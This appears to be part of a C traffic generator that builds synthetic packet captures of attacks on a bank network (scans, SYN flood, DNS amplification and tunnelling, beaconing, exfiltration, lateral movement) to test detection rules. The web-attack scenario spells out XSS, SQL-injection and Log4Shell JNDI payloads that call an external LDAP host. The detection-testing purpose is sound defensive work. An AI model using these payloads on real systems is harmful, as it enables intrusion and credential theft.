static void scn_scan_udp(struct gen_ctx *g, uint64_t start)
{
    static const uint8_t get[] = {
        0x30, 0x26, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c',
        0xa0, 0x19, 0x02, 0x01, 0x01, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0e,
        0x30, 0x0c, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00};
    size_t n = gen_scaled(g, 150), i;
    uint32_t *hosts = calloc(n, sizeof(*hosts));

    if (hosts == NULL) {
        g->failed = true;
        return;
    }
    gen_hosts(g, IP4(10, 60, 0, 0), 16, hosts, n);
    for (i = 0; i < n; i++) {
        struct gen_ep s = {IP4(203, 0, 113, 70), gen_eport(g)}, d = {hosts[i], 161};
        unsigned r = (unsigned)gen_range(g, 0, 99);

        g->now = start + i * (30 * GEN_SEC / n);
        gen_udp(g, &s, &d, get, sizeof(get));
        g->now += gen_range(g, 200, 900);
        if (r < 70) {
            gen_icmp_port_unreach(g, &s, &d, 8 + sizeof(get));
        } else if (r < 80) {
            uint8_t resp[sizeof(get)];

            memcpy(resp, get, sizeof(get));
            resp[13] = 0xa2;    /* GetResponse */
            gen_udp(g, &d, &s, resp, sizeof(resp));
        }
    }
    free(hosts);
}

static bool gen_port_open(uint16_t port)
{
    return port == 22 || port == 80 || port == 135 || port == 139 || port == 443 ||
           port == 445;
}

/* 203.0.113.66 probes 10.10.1.20 on ports 1..1024, one every ~10 ms. */
static void scn_scan_vertical(struct gen_ctx *g, uint64_t start)
{
    uint64_t n = gen_scaled(g, 1024), port;

    g->now = start;
    for (port = 1; port <= n && port <= 65535; port++) {
        struct gen_tcp t;

        gen_tcp_init(g, &t, IP4(203, 0, 113, 66), IP4(10, 10, 1, 20), (uint16_t)port, 30000);
        t.c.port = 41555;   /* nmap -sS keeps one source port */
        gen_tcp_probe(g, &t, gen_port_open((uint16_t)port) ? 2 : 1);
        g->now = start + port * 10000 + gen_range(g, 0, 4000);
    }
}

/* A spoofed source: any unicast address outside private and reserved space. */
static uint32_t gen_spoofed(struct gen_ctx *g)
{
    for (;;) {
        uint32_t v = (uint32_t)gen_rand(g);
        uint8_t a = (uint8_t)(v >> 24);

        if (a == 0 || a == 10 || a == 127 || a >= 224 || (v >> 20) == (IP4(172, 16, 0, 0) >> 20) ||
            (v >> 16) == (IP4(192, 168, 0, 0) >> 16) || (v & 0xff) == 0 || (v & 0xff) == 255)
            continue;
        return v;
    }
}

/* 20k SYNs in 10 s from random sources to 10.40.0.10:443; the victim answers
 * one in four with SYN-ACK (its backlog is full for the rest), nobody ACKs. */
static void scn_syn_flood(struct gen_ctx *g, uint64_t start)
{
    uint64_t n = gen_scaled(g, 20000), i;

    for (i = 0; i < n; i++) {
        struct gen_tcp t;

        g->now = start + i * 500 + gen_range(g, 0, 400);
        gen_tcp_init(g, &t, gen_spoofed(g), IP4(10, 40, 0, 10), 443, 200);
        t.c.port = (uint16_t)gen_range(g, 1024, 65535);
        gen_tcp_pkt(g, &t, GEN_C2S, TH_SYN, NULL, 0);
        if (i % 4 == 0) {
            gen_tick(g, 100);
            gen_tcp_pkt(g, &t, GEN_S2C, TH_SYN | TH_ACK, NULL, 0);
        }
    }
}

/* ~3000-byte answer to "ANY big.amp-zone.example": eleven 255-byte TXT strings.
 * The text is the same for every resolver, as it is in a real reflection. */
static void amp_answer(struct gen_buf *b, uint16_t id, const char *text)
{
    int i;

    dns_begin(b, id, 0x8180, 11, "big.amp-zone.example", DNS_ANY);
    for (i = 0; i < 11; i++)
        dns_txt_rr(b, 3600, text);
}

/* 200 open resolvers send DNS ANY answers to spoofed victim 10.50.0.20, ten each
 * within 20 s; the victim itself asks three ordinary questions of its resolver.
 * The answers are IP-fragmented and captured whole (~6 MB of pcap): a truncated
 * fragment cannot be reassembled, so the sensor would never see the UDP flow. */
static void scn_amplification(struct gen_ctx *g, uint64_t start)
{
    size_t nres = gen_scaled(g, 200), i, k;
    uint32_t *res = calloc(nres, sizeof(*res));
    uint8_t mem[3200];
    char text[256];
    struct gen_buf b;

    if (res == NULL || nres > 500) {
        free(res);
        g->failed = res == NULL;
        return;
    }
    for (i = 0; i < 255; i++)
        text[i] = (char)('a' + gen_range(g, 0, 25));
    text[255] = '\0';
    gen_hosts(g, 0, 9, res, nres);  /* 1..510, mapped to two /24s below */
    for (i = 0; i < 3; i++) {
        g->now = start + i * 7 * GEN_SEC;
        act_dns(g, IP4(10, 50, 0, 20), "auth.card-scheme.example", DNS_A, NULL);
    }
    for (i = 0; i < nres; i++) {
        uint32_t r = res[i] < 256 ? IP4(198, 51, 100, 0) | res[i]
                                  : IP4(203, 0, 113, 0) | (res[i] - 256);
        struct gen_ep s = {r, 53};

        for (k = 0; k < 10; k++) {
            struct gen_ep d = {IP4(10, 50, 0, 20), (uint16_t)gen_range(g, 1024, 65535)};

            g->now = start + gen_range(g, 0, 20 * GEN_SEC);
            gen_buf_init(&b, mem, sizeof(mem));
            amp_answer(&b, (uint16_t)gen_rand(g), text);
            gen_udp(g, &s, &d, b.b, b.len);
        }
    }
    free(res);
}

/* 198.51.100.23 tries 60 SSH logins on 10.10.2.5 in two minutes. */
static void scn_bruteforce_ssh(struct gen_ctx *g, uint64_t start)
{
    uint64_t n = gen_scaled(g, 60), i;

    for (i = 0; i < n; i++) {
        g->now = start + i * 2 * GEN_SEC + gen_range(g, 0, 300000);
        act_ssh_attempt(g, IP4(198, 51, 100, 23), IP4(10, 10, 2, 5),
                        "SSH-2.0-libssh2_1.10.0\r\n");
    }
}

/* "k3x...": n characters of the base32 alphabet. */
static void gen_base32(struct gen_ctx *g, char *out, size_t n)
{
    static const char alpha[] = "abcdefghijklmnopqrstuvwxyz234567";
    size_t i;

    for (i = 0; i < n; i++)
        out[i] = alpha[gen_rand(g) % 32];
    out[n] = '\0';
}

static void tunnel_query(struct gen_ctx *g, uint32_t cip)
{
    char l1[64], l2[64], name[200], txt[240];
    size_t i, n = gen_range(g, 120, 220);

    gen_base32(g, l1, gen_range(g, 50, 63));
    gen_base32(g, l2, gen_range(g, 20, 40));
    if (gen_chance(g, 50))
        snprintf(name, sizeof(name), "%s.%s.t.evil-tunnel.example", l1, l2);
    else
        snprintf(name, sizeof(name), "%s.t.evil-tunnel.example", l1);
    for (i = 0; i < n; i++)         /* base64 alphabet, like iodine's TXT downstream */
        txt[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
            [gen_rand(g) % 64];
    txt[n] = '\0';
    act_dns(g, cip, name, DNS_TXT, txt);
}

/* 10.20.5.5 sends 500 TXT queries for unique encoded names in 5 minutes; an
 * ordinary lookup every 25 queries. */
static void scn_dns_tunnel(struct gen_ctx *g, uint64_t start)
{
    uint64_t n = gen_scaled(g, 500), i;

    for (i = 0; i < n; i++) {
        g->now = start + i * 600000 + gen_range(g, 0, 200000);
        tunnel_query(g, IP4(10, 20, 5, 5));
        if (i % 25 == 0)
            act_dns(g, IP4(10, 20, 5, 5), "www.example.com", DNS_A, NULL);
    }
}

/* 10.20.8.8 calls home to 203.0.113.10:443 every 60 s +- 2 s for two hours. */
static void scn_beacon(struct gen_ctx *g, uint64_t start)
{
    struct tls_plan tp = {"cdn-update.example", 1, 180, 220, 90, 130, 35000};
    uint64_t n = gen_scaled(g, 120), i;

    for (i = 0; i < n; i++) {
        g->now = start + i * 60 * GEN_SEC + gen_range(g, 0, 4 * GEN_SEC) - 2 * GEN_SEC;
        act_tls(g, IP4(10, 20, 8, 8), IP4(203, 0, 113, 10), &tp);
    }
}

/* 10.10.3.3 uploads 12 small files a day for five days to a partner, then on
 * day six pushes 200 MB to a host it never used. */
static void scn_exfil(struct gen_ctx *g, uint64_t start)
{
    const char *sni = "sftp.partner-bank.example";
    unsigned d, k;

    for (d = 0; d < 6; d++) {
        for (k = 0; k < 12; k++) {
            g->now = start + d * GEN_DAY + gen_range(g, 0, 8 * 3600) * GEN_SEC;
            act_tls_upload(g, IP4(10, 10, 3, 3), IP4(203, 0, 113, 50), sni,
                           gen_range(g, 20000, 200000), 2000000);
        }
    }
    g->now = start + 5 * GEN_DAY + 5 * GEN_HOUR;
    act_tls_upload(g, IP4(10, 10, 3, 3), IP4(198, 51, 100, 77), "drop.files-share.example",
                   gen_scaled(g, 200) * 1000000ull, 12000000);
}

/* 10.20.9.9 uses only its file server and resolver for an hour, then reaches 40
 * new core-banking hosts on 445, 135 and 3389 (RDP refused on two in three). */
static void scn_lateral(struct gen_ctx *g, uint64_t start)
{
    const uint32_t me = IP4(10, 20, 9, 9);
    size_t n = gen_scaled(g, 40), i;
    uint32_t *hosts = calloc(n, sizeof(*hosts));

    if (hosts == NULL || n > 1000) {
        free(hosts);
        g->failed = hosts == NULL;
        return;
    }
    for (i = 0; i < 6; i++) {
        g->now = start + i * 10 * GEN_MIN;
        act_dns(g, me, "files.corp.example", DNS_A, NULL);
        act_win(g, me, IP4(10, 10, 0, 80), SVC_SMB, false);
    }
    gen_hosts(g, IP4(10, 10, 4, 0), 10, hosts, n);
    for (i = 0; i < n; i++) {
        g->now = start + GEN_HOUR + i * 10 * GEN_SEC + gen_range(g, 0, 5 * GEN_SEC);
        act_win(g, me, hosts[i], SVC_SMB, false);
        act_win(g, me, hosts[i], SVC_RPC, false);
        act_win(g, me, hosts[i], SVC_RDP, i % 3 != 0);
    }
    free(hosts);
}

/* Branch -> SWIFT and ATM -> internet (both denied by the default policy), next
 * to an allowed ATM -> card-zone session. */
static void scn_zone_policy(struct gen_ctx *g, uint64_t start)
{
    struct tls_plan swift = {"swiftnet-gw.bank.example", 2, 400, 900, 600, 2000, 2000};
    struct tls_plan card = {"auth.card.bank.example", 1, 200, 400, 200, 400, 3000};

    g->now = start;
    act_tls(g, IP4(10, 20, 1, 1), IP4(10, 30, 0, 10), &swift);
    g->now = start + 60 * GEN_SEC;
    act_tls(g, IP4(10, 60, 0, 5), IP4(10, 50, 0, 20), &card);
    g->now = start + 120 * GEN_SEC;
    act_http_get(g, IP4(10, 60, 0, 5), IP4(203, 0, 113, 99), "203.0.113.99",
                 "/fw/atm-update.bin", 4000);
}

/* The known session FWBANKOMS/FWEXCH, and 10.40.7.77 logging on as an unknown
 * CompID whose second order carries a wrong checksum. */
static void scn_fix_anomaly(struct gen_ctx *g, uint64_t start)
{
    struct fix_sess ok = {.client_id = "FWBANKOMS", .venue_id = "FWEXCH"};
    struct fix_sess bad = {.client_id = "XQ7ROGUE", .venue_id = "FWEXCH"};

    g->now = start;
    act_fix(g, &ok, IP4(10, 40, 1, 20), IP4(10, 40, 0, 30), gen_scaled(g, 5) * GEN_MIN, 0);
    g->now = start + GEN_MIN;
    act_fix(g, &bad, IP4(10, 40, 7, 77), IP4(10, 40, 0, 30), gen_scaled(g, 3) * GEN_MIN, 2);
}

/* Run one scenario part with its own scale (the demo's shortened versions). */
static void demo_part(struct gen_ctx *g, void (*fn)(struct gen_ctx *, uint64_t),
                      uint64_t start, double scale)
{
    double saved = g->scale;

    g->scale = saved * scale;
    fn(g, start);
    g->scale = saved;
}

/* 30 minutes of background with the attacks of the SOC demo on top. */
static void scn_demo(struct gen_ctx *g, uint64_t start)
{
    struct bg_plan p = {start, gen_scaled(g, 30) * GEN_MIN, 4, 9, gen_scaled(g, 4) * 1000000ull};

    bg_all(g, &p);
    demo_part(g, scn_beacon, start + GEN_MIN, 25.0 / 120.0);
    demo_part(g, scn_scan_horizontal, start + 5 * GEN_MIN, 1.0);
    demo_part(g, scn_bruteforce_ssh, start + 10 * GEN_MIN, 1.0);
    demo_part(g, scn_dns_tunnel, start + 15 * GEN_MIN, 0.6);
    demo_part(g, scn_zone_policy, start + 22 * GEN_MIN, 1.0);
}

/* perf: 200k short DNS lookups (query + answer, classified by nDPI at once) from
 * 8 branch clients to the resolver within 50 s of packet time, so every flow is
 * still in the table, idle, when the capture ends (udp_idle is 60 s). Distinct
 * ports, few hosts: the RSS growth is the flow table's, not the analyzers'. */
/* One query and its answer between cip and an arbitrary server endpoint (not
 * the internal resolver): a direct lookup from a zone that must not do so, DNS on
 * an odd port, or an NXDOMAIN (nx: no answer, RCODE 3). */
static void act_dns_direct(struct gen_ctx *g, uint32_t cip, struct gen_ep s, const char *name,
                           bool nx)
{
    uint8_t mem[512];
    struct gen_buf b;
    struct gen_ep c = {cip, gen_eport(g)};
    uint16_t id = (uint16_t)gen_rand(g);
    uint32_t ip = gen_name_ip(name);
    uint8_t a[4] = {(uint8_t)(ip >> 24), (uint8_t)(ip >> 16), (uint8_t)(ip >> 8), (uint8_t)ip};

    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, 0x0100, 0, name, DNS_A);
    gen_udp(g, &c, &s, b.b, b.len);
    gen_tick(g, gen_range(g, 400, 30000));
    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, nx ? 0x8183 : 0x8180, nx ? 0 : 1, name, DNS_A);
    if (!nx)
        dns_rr(&b, DNS_A, 300, a, 4);
    gen_udp(g, &s, &c, b.b, b.len);
    gen_tick(g, 200);
}

/* ---- Clear-text logins, web attacks, threat-intel hits (rule pack) ---- */

/* One message in one segment, the peer ACKs half an RTT later. */
static void gen_tcp_say(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir, const char *s)
{
    gen_tcp_send(g, t, dir, (const uint8_t *)s, strlen(s));
}

/* A line typed on a Telnet client in character mode: one segment per key, the
 * server echoes it (echo) or just ACKs it (password), then the client ACKs. */
static void telnet_type(struct gen_ctx *g, struct gen_tcp *t, const char *line, bool echo)
{
    const char *k;

    for (k = line; *k != '\0'; k++) {
        gen_tick(g, gen_range(g, 90000, 250000));   /* typing speed */
        gen_tcp_pkt(g, t, GEN_C2S, TH_ACK | TH_PSH, (const uint8_t *)k, 1);
        gen_tick(g, t->rtt / 2);
        if (echo) {
            const char *e = *k == '\r' ? "\r\n" : k;

            gen_tcp_pkt(g, t, GEN_S2C, TH_ACK | TH_PSH, (const uint8_t *)e, *k == '\r' ? 2 : 1);
            gen_tick(g, t->rtt / 2);
        }
        gen_tcp_pkt(g, t, echo ? GEN_C2S : GEN_S2C, TH_ACK, NULL, 0);
    }
}

/* Telnet (RFC 854) login as a Linux telnetd and netkit client do it: option
 * negotiation (TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON, SGA, ECHO, NAWS), the login
 * and password prompts, the user typing both in character mode, one command. */
static void act_telnet_login(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *user,
                             const char *pass)
{
    static const uint8_t s_do[] = {0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20, 0xff, 0xfd, 0x23,
                                   0xff, 0xfd, 0x27};
    static const uint8_t c_will[] = {0xff, 0xfb, 0x18, 0xff, 0xfb, 0x20, 0xff, 0xfb, 0x23,
                                     0xff, 0xfb, 0x27};
    static const uint8_t s_sb[] = {0xff, 0xfa, 0x20, 0x01, 0xff, 0xf0, 0xff, 0xfa, 0x23, 0x01,
                                   0xff, 0xf0, 0xff, 0xfa, 0x27, 0x01, 0xff, 0xf0, 0xff, 0xfa,
                                   0x18, 0x01, 0xff, 0xf0};
    static const uint8_t c_sb[] = {0xff, 0xfa, 0x20, 0x00, '3', '8', '4', '0', '0', ',', '3',
                                   '8', '4', '0', '0', 0xff, 0xf0, 0xff, 0xfa, 0x27, 0x00,
                                   0xff, 0xf0, 0xff, 0xfa, 0x18, 0x00, 'X', 'T', 'E', 'R', 'M',
                                   0xff, 0xf0};
    static const uint8_t s_opts[] = {0xff, 0xfb, 0x03, 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f,
                                     0xff, 0xfb, 0x05, 0xff, 0xfd, 0x21};
    static const uint8_t c_opts[] = {0xff, 0xfd, 0x03, 0xff, 0xfc, 0x01, 0xff, 0xfb, 0x1f,
                                     0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0,
                                     0xff, 0xfd, 0x05, 0xff, 0xfc, 0x21};
    static const uint8_t s_echo[] = {0xff, 0xfb, 0x01};
    static const uint8_t c_echo[] = {0xff, 0xfd, 0x01};
    char line[80];
    struct gen_tcp t;

    gen_tcp_init(g, &t, cip, sip, 23, 2000);
    gen_tcp_open(g, &t);
    gen_tick(g, 5000);                  /* telnetd speaks first */
    gen_tcp_send(g, &t, GEN_S2C, s_do, sizeof(s_do));
    gen_tcp_send(g, &t, GEN_C2S, c_will, sizeof(c_will));
    gen_tcp_send(g, &t, GEN_S2C, s_sb, sizeof(s_sb));
    gen_tcp_send(g, &t, GEN_C2S, c_sb, sizeof(c_sb));
    gen_tcp_send(g, &t, GEN_S2C, s_opts, sizeof(s_opts));
    gen_tcp_send(g, &t, GEN_C2S, c_opts, sizeof(c_opts));
    gen_tcp_send(g, &t, GEN_S2C, s_echo, sizeof(s_echo));
    gen_tcp_send(g, &t, GEN_C2S, c_echo, sizeof(c_echo));
    gen_tcp_say(g, &t, GEN_S2C, "\r\nDebian GNU/Linux 11\r\nhsm-console login: ");
    snprintf(line, sizeof(line), "%s\r", user);
    telnet_type(g, &t, line, true);
    gen_tcp_say(g, &t, GEN_S2C, "\r\nPassword: ");
    snprintf(line, sizeof(line), "%s\r", pass);
    telnet_type(g, &t, line, false);
    gen_tick(g, 800000);                /* PAM */
    gen_tcp_say(g, &t, GEN_S2C, "\r\nLast login: Mon Nov  2 08:12:40 UTC 2026 from 10.20.2.15"
                " on pts/0\r\nhsmadm@hsm-console:~$ ");
    telnet_type(g, &t, "exit\r", true);
    gen_tcp_say(g, &t, GEN_S2C, "\r\nlogout\r\n");
    gen_tcp_close(g, &t, GEN_S2C);
}

/* FTP (RFC 959) control session: banner, USER/PASS, SYST, PWD, QUIT. */
static void act_ftp_login(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *user,
                          const char *pass)
{
    char line[80];
    struct gen_tcp t;

    gen_tcp_init(g, &t, cip, sip, 21, 1500);
    gen_tcp_open(g, &t);
    gen_tick(g, 3000);                  /* the server speaks first */
    gen_tcp_say(g, &t, GEN_S2C, "220 (vsFTPd 3.0.3)\r\n");
    gen_tick(g, gen_range(g, 50000, 200000));
    snprintf(line, sizeof(line), "USER %s\r\n", user);
    gen_tcp_say(g, &t, GEN_C2S, line);
    gen_tcp_say(g, &t, GEN_S2C, "331 Please specify the password.\r\n");
    gen_tick(g, gen_range(g, 50000, 200000));
    snprintf(line, sizeof(line), "PASS %s\r\n", pass);
    gen_tcp_say(g, &t, GEN_C2S, line);
    gen_tick(g, 20000);
    gen_tcp_say(g, &t, GEN_S2C, "230 Login successful.\r\n");
    gen_tcp_say(g, &t, GEN_C2S, "SYST\r\n");
    gen_tcp_say(g, &t, GEN_S2C, "215 UNIX Type: L8\r\n");
    gen_tcp_say(g, &t, GEN_C2S, "PWD\r\n");
    gen_tcp_say(g, &t, GEN_S2C, "257 \"/home/batch\" is the current directory\r\n");
    gen_tick(g, gen_range(g, 500000, 2000000));
    gen_tcp_say(g, &t, GEN_C2S, "QUIT\r\n");
    gen_tcp_say(g, &t, GEN_S2C, "221 Goodbye.\r\n");
    gen_tcp_close(g, &t, GEN_S2C);
}

/* Telnet into the card zone, FTP into core-banking (both FW-CLEAR-001), and the
 * same FTP login into a branch file server, which is allowed. */
static void scn_cleartext(struct gen_ctx *g, uint64_t start)
{
    g->now = start;
    act_telnet_login(g, IP4(10, 20, 2, 15), IP4(10, 50, 1, 10), "hsmadm", "Winter2026!");
    g->now = start + GEN_MIN;
    act_ftp_login(g, IP4(10, 20, 3, 30), IP4(10, 10, 1, 30), "batch", "S3tl3m3nt#7");
    g->now = start + 2 * GEN_MIN;
    act_ftp_login(g, IP4(10, 20, 3, 31), IP4(10, 20, 1, 200), "scans", "scanner01");
}

/* One HTTP request with a given Host and path to sip:80, a small HTML answer. */
static void act_http_req(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *host,
                         const char *path, const char *ua, unsigned status)
{
    uint8_t m1[1024], m2[1024];
    struct gen_buf req, resp;
    struct gen_tcp t;
    char line[768];

    gen_tcp_init(g, &t, cip, sip, 80, 20000);
    gen_tcp_open(g, &t);
    gen_buf_init(&req, m1, sizeof(m1));
    snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
             "Accept: text/html,*/*;q=0.8\r\nConnection: close\r\n\r\n", path, host, ua);
    gen_str(&req, line);
    gen_buf_init(&resp, m2, sizeof(m2));
    snprintf(line, sizeof(line), "HTTP/1.1 %u %s\r\nServer: nginx\r\nContent-Type: text/html\r\n"
             "Content-Length: 58\r\nConnection: close\r\n\r\n", status,
             status == 200 ? "OK" : "Bad Request");
    gen_str(&resp, line);
    gen_str(&resp, "<html><body><p>Online banking: please log in.</p></body>\n");
    gen_tcp_exchange(g, &t, &req, &resp);
}

#define WEB_UA "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
#define WEB_DMZ IP4(172, 16, 0, 20)

/* Attacks on the DMZ web server from three external hosts (XSS, SQL injection
 * by sqlmap, Log4Shell in the Host header and User-Agent) next to an ordinary
 * page view. (No command injection: Debian's nDPI 4.2 is built without PCRE and
 * has no RCE check.) */
static void scn_web_attack(struct gen_ctx *g, uint64_t start)
{
    g->now = start;
    act_http_req(g, IP4(10, 20, 0, 12), WEB_DMZ, "ebanking.bank.example", "/login?lang=en",
                 WEB_UA, 200);
    g->now = start + 10 * GEN_SEC;
    act_http_req(g, IP4(198, 51, 100, 61), WEB_DMZ, "ebanking.bank.example",
                 "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", WEB_UA, 200);
    g->now = start + 20 * GEN_SEC;
    act_http_req(g, IP4(198, 51, 100, 62), WEB_DMZ, "ebanking.bank.example",
                 "/account?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
                 "sqlmap/1.7.2#stable (https://sqlmap.org)", 200);
    g->now = start + 40 * GEN_SEC;
    act_http_req(g, IP4(203, 0, 113, 64), WEB_DMZ, "${jndi:ldap://203.0.113.64:1389/Basic}",
                 "/", "${jndi:ldap://203.0.113.64:1389/Basic}", 400);
}

/* The canary indicators shipped in rules/detections/ti/ (reserved names and
 * addresses that never occur in real traffic). */
#define TI_CANARY_NAME "ti-canary.finwatch.example"
#define TI_CANARY_IP   IP4(192, 0, 2, 166)

/* A branch host resolves and visits a listed domain, a core-banking server
 * opens TLS to a listed address; another branch host browses normally. */
static void scn_threat_intel(struct gen_ctx *g, uint64_t start)
{
    struct tls_plan bad = {TI_CANARY_NAME, 2, 200, 600, 300, 3000, 30000};
    struct tls_plan upd = {"updates.vendor.example", 1, 200, 400, 400, 1200, 30000};
    struct tls_plan ok = {"www.example.com", 2, 300, 900, 800, 6000, 20000};

    g->now = start;
    act_dns(g, IP4(10, 20, 8, 31), "www.example.com", DNS_A, NULL);
    act_tls(g, IP4(10, 20, 8, 31), gen_name_ip("www.example.com"), &ok);
    g->now = start + 10 * GEN_SEC;
    act_dns(g, IP4(10, 20, 8, 30), TI_CANARY_NAME, DNS_A, NULL);
    act_tls(g, IP4(10, 20, 8, 30), gen_name_ip(TI_CANARY_NAME), &bad);
    g->now = start + 20 * GEN_SEC;
    act_tls(g, IP4(10, 10, 7, 7), TI_CANARY_IP, &upd);
}

/* DNSCrypt v2 (dnscrypt.info/protocol): the client fetches the resolver's
 * certificate with a plain DNS TXT query for 2.dnscrypt-cert.<provider>, then
 * sends encrypted queries (client magic, public key, nonce, box, padded to 256
 * bytes) answered with the resolver magic "r6fnvWj8", a nonce and a box. All on
 * the resolver's port, here not 53: DNS framing where egress rules miss it. */
static void act_dnscrypt(struct gen_ctx *g, uint32_t cip, struct gen_ep s, const char *provider,
                         unsigned queries)
{
    uint8_t mem[512], cert[125];
    struct gen_buf b, c;
    struct gen_ep cl = {cip, gen_eport(g)};
    uint16_t id = (uint16_t)gen_rand(g);
    char qname[128];
    unsigned i;

    snprintf(qname, sizeof(qname), "2.dnscrypt-cert.%s", provider);
    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, 0x0100, 0, qname, DNS_TXT);
    gen_udp(g, &cl, &s, b.b, b.len);
    gen_tick(g, gen_range(g, 15000, 40000));
    gen_buf_init(&c, cert, sizeof(cert));
    gen_u8(&c, 124);                    /* one character-string: the certificate */
    gen_str(&c, "DNSC");
    gen_u16(&c, 2);                     /* es-version: X25519-XSalsa20Poly1305 */
    gen_u16(&c, 0);
    gen_rnd(g, &c, 64);                 /* signature */
    gen_rnd(g, &c, 32);                 /* resolver public key */
    gen_str(&c, "Fw1nCl1e");            /* client magic */
    gen_u32(&c, 1);                     /* serial */
    gen_u32(&c, (uint32_t)(g->now / GEN_SEC));
    gen_u32(&c, (uint32_t)(g->now / GEN_SEC + 86400));
    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, 0x8180, 1, qname, DNS_TXT);
    dns_rr(&b, DNS_TXT, 3600, c.b, c.len);
    gen_udp(g, &s, &cl, b.b, b.len);
    for (i = 0; i < queries; i++) {
        gen_tick(g, gen_range(g, 200000, 3000000));
        gen_buf_init(&b, mem, sizeof(mem));
        gen_str(&b, "Fw1nCl1e");
        gen_rnd(g, &b, 32 + 12 + 256 - 52);
        gen_udp(g, &cl, &s, b.b, b.len);
        gen_tick(g, gen_range(g, 15000, 40000));
        gen_buf_init(&b, mem, sizeof(mem));
        gen_str(&b, "r6fnvWj8");
        gen_rnd(g, &b, 24 + (size_t)gen_range(g, 60, 160));
        gen_udp(g, &s, &cl, b.b, b.len);
    }
}

/* Small cases for the match rules of rules/detections (tests/rules/pack/):
 * RDP from outside into core-banking, SSH from a branch into swift, direct DNS
 * from the card zone to an external server, plain DNS on port 5300 (nDPI 4.2
 * leaves it Unknown), DNSCrypt on 443/udp (nDPI: DNScrypt), and a client
 * collecting 60 NXDOMAIN answers in two minutes (DGA). */
static void scn_rule_pack(struct gen_ctx *g, uint64_t start)
{
    char name[64];
    size_t i, n = gen_scaled(g, 60);

    g->now = start;
    act_win(g, IP4(198, 51, 100, 40), IP4(10, 10, 5, 5), SVC_RDP, false);
    g->now = start + 10 * GEN_SEC;
    act_ssh_attempt(g, IP4(10, 20, 7, 7), IP4(10, 30, 0, 22), "SSH-2.0-OpenSSH_9.2p1");
    g->now = start + 20 * GEN_SEC;
    act_dns_direct(g, IP4(10, 50, 3, 3), (struct gen_ep){IP4(203, 0, 113, 53), 53},
                   "www.example.com", false);
    g->now = start + 30 * GEN_SEC;
    act_dns_direct(g, IP4(10, 20, 6, 6), (struct gen_ep){IP4(203, 0, 113, 54), 5300},
                   "odd.example.net", false);
    g->now = start + 35 * GEN_SEC;
    act_dnscrypt(g, IP4(10, 20, 6, 8), (struct gen_ep){IP4(203, 0, 113, 55), 443},
                 "resolver.dnscrypt.example", 2);
    for (i = 0; i < n; i++) {
        g->now = start + 40 * GEN_SEC + i * 2 * GEN_SEC;
        snprintf(name, sizeof(name), "q%08x%04x.example.org", (unsigned)gen_rand(g),
                 (unsigned)i);
        act_dns_direct(g, IP4(10, 20, 4, 44), (struct gen_ep){RESOLVER, 53}, name, true);
    }
}

static void scn_manyflows(struct gen_ctx *g, uint64_t start)
{
    size_t n = gen_scaled(g, 200000), i;
    uint64_t gap = 50 * GEN_SEC / n;
    uint8_t mem[512];
    uint8_t a[4] = {198, 51, 100, 7};
    struct gen_buf b;

    g->now = start;
    for (i = 0; i < n && !g->failed; i++) {
        struct gen_ep c = {IP4(10, 20, 0, 10 + i % 8), (uint16_t)(10000 + (i / 8) % 50000)};
        struct gen_ep s = {RESOLVER, 53};
        uint16_t id = (uint16_t)gen_rand(g);

        gen_buf_init(&b, mem, sizeof(mem));
        dns_begin(&b, id, 0x0100, 0, "www.example.com", DNS_A);
        gen_udp(g, &c, &s, b.b, b.len);
        gen_tick(g, gap / 2);
        gen_buf_init(&b, mem, sizeof(mem));
        dns_begin(&b, id, 0x8180, 1, "www.example.com", DNS_A);
        dns_rr(&b, DNS_A, 300, a, sizeof(a));
        gen_udp(g, &s, &c, b.b, b.len);
        gen_tick(g, gap - gap / 2);
    }
}

/* ---------------------------------------------------------------------------
 * Command line
 * ------------------------------------------------------------------------- */

struct gen_scenario {
    const char *name;
    void (*fn)(struct gen_ctx *g, uint64_t start);
    const char *help;
};

static const struct gen_scenario gen_scenarios[] = {
    {"benign", scn_benign, "30 min of web/TLS, DNS, NTP, SNMP polls, a FIX session, a backup"},
    {"scan_horizontal", scn_scan_horizontal, "10.20.3.77 SYNs 300 core-banking hosts on 445"},
    {"scan_vertical", scn_scan_vertical, "203.0.113.66 SYNs 10.10.1.20 ports 1-1024"},
    {"scan_udp", scn_scan_udp, "203.0.113.70 sweeps 161/udp over 150 ATMs; most answer ICMP"},
    {"syn_flood", scn_syn_flood, "20k spoofed SYNs to 10.40.0.10:443 in 10 s"},
    {"amplification", scn_amplification, "DNS ANY answers from 200 resolvers to 10.50.0.20"},
    {"bruteforce_ssh", scn_bruteforce_ssh, "60 SSH logins 198.51.100.23 -> 10.10.2.5 in 2 min"},
    {"dns_tunnel", scn_dns_tunnel, "10.20.5.5: 500 TXT queries under t.evil-tunnel.example"},
    {"beacon", scn_beacon, "10.20.8.8 -> 203.0.113.10:443 every 60 s +- 2 s for 2 h"},
    {"exfil", scn_exfil, "10.10.3.3: 5 days of small uploads, then 200 MB out"},
    {"lateral", scn_lateral, "10.20.9.9 reaches 40 new core-banking hosts on 445/135/3389"},
    {"zone_policy", scn_zone_policy, "branch -> swift and atm -> external sessions"},
    {"fix_anomaly", scn_fix_anomaly, "FIX logon with unknown SenderCompID, bad checksum"},
